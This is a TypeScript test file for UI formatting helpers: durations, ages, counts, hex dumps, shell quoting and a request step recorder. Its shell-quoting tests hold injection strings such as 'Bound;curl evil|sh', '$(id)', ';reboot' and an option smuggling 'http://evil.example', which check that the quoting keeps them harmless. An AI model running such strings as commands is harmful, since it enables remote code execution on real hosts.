/**
 * What the pages are made of, as pure functions: moments, durations and counts in words, and the recorder of a request,
 * to the letter.
 */
import { execFileSync } from 'node:child_process'
import { describe, expect, it, test } from 'vitest'
import { hexOf, visible } from '../../src/ui/view/bytes.ts'
import {
  ago,
  count,
  duration,
  instant,
  labelOf,
  many,
  moment,
  precise,
  shell,
  shellWord,
  sum,
  valueOf,
} from '../../src/ui/view/words.ts'
import { recorderOf } from '../../src/ui/view/recorder.ts'

const AT = Date.UTC(2026, 2, 1, 8, 15, 30, 123)
const iso = (ms: number): string => new Date(AT + ms).toISOString()
const [S, MIN, H, D] = [1000, 60_000, 3_600_000, 86_400_000] as const

describe('in words', () => {
  test('a moment, and an instant', () => {
    expect([moment(iso(0)), instant(iso(0))]).toEqual(['2026-03-01 08:15:30 UTC', '08:15:30.123'])
    expect(precise(iso(0))).toBe('2026-03-01 08:15:30.123 UTC')
  })
  it.each([
    ['product_id', 'Product ID'],
    ['pci_numa_uuid', 'PCI NUMA UUID'],
    ['identity', 'Identity'],
    ['constructor', 'Constructor'],
    ['a', 'A'],
    ['', ''],
  ])('the field %s as a label', (name, label) => expect(labelOf(name)).toBe(label))
  test('a value of whatever type', () => {
    expect(['a "b"', 7, null, { a: ['b'] }].map(valueOf)).toEqual(['a "b"', '7', 'null', '{"a":["b"]}'])
  })
  it.each<[number, string]>([
    [-5, '0 ms'],
    [0, '0 ms'],
    [640.4, '640 ms'],
    [999, '999 ms'],
    [S, '1.00 s'],
    [3242, '3.24 s'],
    [9999, '10 s'],
    [10 * S, '10 s'],
    [41_900, '42 s'],
    [MIN - 1, '1 min'],
    [MIN, '1 min'],
    [4 * MIN + 10_900, '4 min 10 s'],
    [H - 1, '59 min 59 s'],
    [H, '1 h'],
    [3 * H + 20 * MIN, '3 h 20 min'],
    [D - 1, '23 h 59 min'],
    [D, '1 d'],
    [12 * D + 4 * H + 59 * MIN, '12 d 4 h'],
  ])('a duration of %d ms', (ms, words) => expect(duration(ms)).toBe(words))
  it.each<[number, string]>([
    [0, 'just now'],
    [1499, 'just now'],
    [1500, '1 s ago'],
    [59_999, '59 s ago'],
    [MIN, '1 min ago'],
    [H - 1, '59 min ago'],
    [H, '1 h ago'],
    [D - 1, '23 h ago'],
    [D, '1 d ago'],
    [-1500, 'just now'],
    [-1501, 'in 1 s'],
    [-2 * H, 'in 2 h'],
  ])('an age of %d ms', (ms, words) => expect(ago(iso(0), AT + ms)).toBe(words))
  it.each<[number, string]>([
    [0, '0'],
    [999, '999'],
    [1000, '1\u202F000'],
    [1_234_567, '1\u202F234\u202F567'],
  ])('the count %d', (number, words) => expect(count(number)).toBe(words))
  test('how many of what', () => {
    expect([many(0, 'host'), many(1, 'host'), many(2, 'host'), many(2000, 'entry', 'entries')]).toEqual([
      '0\u00A0hosts',
      '1\u00A0host',
      '2\u00A0hosts',
      '2\u202F000\u00A0entries',
    ])
    expect(sum({ a: 1, b: 2, c: 0 })).toBe(3)
    expect(sum({})).toBe(0)
  })
})

describe('text from outside', () => {
  it.each([
    ['a\n\tb', 'a\n\tb'],
    ['\u0000\r\u0007', String.raw`\u{0}\u{D}\u{7}`],
    ['\u202E\u200B\u2028\u2029', String.raw`\u{202E}\u{200B}\u{2028}\u{2029}`],
    ['\uD800', String.raw`\u{D800}`],
    ['\u{E0001}x', String.raw`\u{E0001}x`],
    ['ä<b>\u{1F600} ', 'ä<b>\u{1F600} '],
  ])('%j shows what is invisible', (given, shown) => expect(visible(given)).toBe(shown))
  test('in hexadecimal, sixteen bytes in a line', () => {
    expect(hexOf('')).toBe('')
    expect(hexOf('\u001F !~\u007Fä').split('\n')).toEqual([
      `00000000  1f 20 21 7e 7f c3 a4                             . !~...`,
    ])
    expect(hexOf('0123456789abcdefX').split('\n')).toEqual([
      '00000000  30 31 32 33 34 35 36 37 38 39 61 62 63 64 65 66  0123456789abcdef',
      `00000010  58${' '.repeat(45)}  X`,
    ])
  })
})

describe('a command line', () => {
  /** The words that a shell makes of the line. */
  const read = (line: string): readonly string[] =>
    execFileSync('bash', ['-c', `printf '%s\\0' ${line}`], { encoding: 'utf8' })
      .split('\0')
      .slice(0, -1)
  it.each([
    'compute-1',
    '',
    'a b',
    ';reboot',
    'Bound;curl evil|sh',
    '$(id)`id`$HOME',
    `it's "so" \\`,
    '~',
    '{a,b}*?[x]',
    '#',
    '=id',
    '!1',
    'a\u0003reboot\n\u001B[2J',
    "\u202E\\'\u200B",
    'zwölf',
  ])('has each value as one word, as it is: %j', (value) => {
    expect(read(shellWord(value))).toEqual([value])
    expect(shellWord(value)).not.toMatch(/[\p{Cc}\p{Cf}]/u)
    expect(read(shell`a ${value} b ${['--c', value]} d`)).toEqual(['a', value, 'b', '--c', value, 'd'])
  })
  test('has no quotes where none are needed, and nothing for a list of no values', () => {
    expect(shell`show ${'0a1b-compute.1'} ${[]}`).toBe('show 0a1b-compute.1')
  })
  test('has no name that would be an option', () => {
    expect(shell`show ${'--os-auth-url=http://evil.example'}`).toBe('show NAME')
  })
})

type Step = readonly [step: string, atMs: number, detail?: Readonly<Record<string, unknown>>]
const recorded = (steps: readonly Step[], { now = 0, deleted = false } = {}) =>
  recorderOf(
    {
      uuid: 'a1',
      deleted,
      steps: steps.map(([step, at, detail = {}]) => ({ step, at: iso(at), detail, cause: null })),
    } as unknown as Parameters<typeof recorderOf>[0],
    AT + now,
  )
const ORDER = { order: 3, host: 'h1', hostname: 'node-1' }
const STEPS = [
  'created',
  'bind accepted',
  'prepared on the host',
  'bound',
  'bind failed',
  'nova to be told',
  'nova to be told once more',
  'nova not reached, will be told again',
  'nova not told',
  'nova told: delivered',
  'nova told: gone',
  'nova told: refused',
  'nova told: undeliverable',
  'unbound',
  'unbound by force',
  'release failed on the host',
  'released on the host',
  'something new',
] as const

describe('the recorder', () => {
  test('what every step means, while it lasts and when the next has come', async () => {
    const shown = STEPS.map((step) => ({
      step,
      open: recorded([[step, 0, ORDER]], { now: 50 }).spans,
      ended: recorded(
        [
          [step, 0],
          ['created', 40],
        ],
        { now: 50 },
      ).spans[0],
      failed: recorded(
        [
          ['bind failed', 0],
          [step, 10],
          ['created', 40],
        ],
        { now: 50 },
      ).spans[1],
    }))
    await expect(JSON.stringify(shown, null, 1)).toMatchFileSnapshot('golden/steps.txt')
  })
  it.each<[string, Parameters<typeof recorded>]>([
    ['nothing', [[]]],
    ['not bound yet', [[['created', 0]], { now: 5 }]],
    [
      'being bound',
      [
        [
          ['created', 0],
          ['bind accepted', 1000, ORDER],
        ],
        { now: 1500 },
      ],
    ],
    [
      'now before its last step',
      [
        [
          ['created', 0],
          ['bind accepted', 1000, ORDER],
        ],
        { now: 500 },
      ],
    ],
    [
      'bound, long in use',
      [
        [
          ['created', 0],
          ['bind accepted', 1000, ORDER],
          ['prepared on the host', 1400],
          ['bound', 1410, { host_work_ms: 300 }],
          ['nova to be told', 1410],
          ['nova told: delivered', 1500],
        ],
        { now: 9_000_000 },
      ],
    ],
    [
      'bound without work',
      [
        [
          ['created', 0],
          ['bind accepted', 10, { order: null, hostname: 'n' }],
          ['bound', 10],
        ],
        { now: 20 },
      ],
    ],
    [
      'failed, in the words of the host',
      [
        [
          ['bind accepted', 0, ORDER],
          ['bind failed', 500, { reason: 'link down' }],
        ],
        { now: 900 },
      ],
    ],
    [
      'failed with a code, then without a reason',
      [
        [
          ['bind accepted', 0, ORDER],
          ['bind failed', 500, { code: 'unreachable' }],
          ['bind accepted', 600, { order: 4, hostname: '' }],
          ['bind failed', 700, { reason: '' }],
        ],
        { now: 900 },
      ],
    ],
    [
      'failed, Nova told, bound again',
      [
        [
          ['bind accepted', 0, ORDER],
          ['bind failed', 5],
          ['nova told: delivered', 6],
          ['bind accepted', 10, ORDER],
          ['bound', 30],
          ['nova told: delivered', 31],
        ],
        { now: 90 },
      ],
    ],
    [
      'deleted',
      [
        [
          ['created', 0],
          ['unbound', 50],
          ['deleted', 60],
        ],
        { now: 900, deleted: true },
      ],
    ],
  ])('of a request that is %s', async (name, args) => {
    await expect(JSON.stringify(recorded(...args), null, 1)).toMatchFileSnapshot(
      `golden/recorder/${name.replaceAll(/\W+/g, '-')}.txt`,
    )
  })
})
